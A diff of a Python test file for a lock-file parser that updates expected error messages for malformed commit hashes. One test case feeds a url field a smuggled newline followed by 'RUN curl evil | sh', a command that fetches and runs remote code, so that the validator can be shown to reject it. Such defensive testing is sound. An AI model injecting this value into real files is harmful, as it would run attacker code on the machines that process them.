@@ -125,8 +125,12 @@ def test_a_version_1_lock_is_read_and_reported_as_needing_a_relock(tmp_path: Pat
             r"\[\[repos\]\] #1 commit = 42 is not a string",
         ),
         ('commit = "' + "a" * 40 + '"', 'comit = "' + "a" * 40 + '"', "unknown key 'comit'"),
-        ('commit = "' + "a" * 40 + '"', 'commit = "HEAD"', "40-hex"),
-        ('commit = "' + "a" * 40 + '"', 'commit = "' + "a" * 40 + '\\n"', "40-hex"),
+        ('commit = "' + "a" * 40 + '"', 'commit = "HEAD"', "40 lowercase hex digits"),
+        (
+            'commit = "' + "a" * 40 + '"',
+            'commit = "' + "a" * 40 + '\\n"',
+            "40 lowercase hex digits",
+        ),
         (
             'url = "https://gitcode.com/cann/opbase.git"',
             'url = "https://gitcode.com/cann/opbase.git\\nRUN curl evil | sh"',
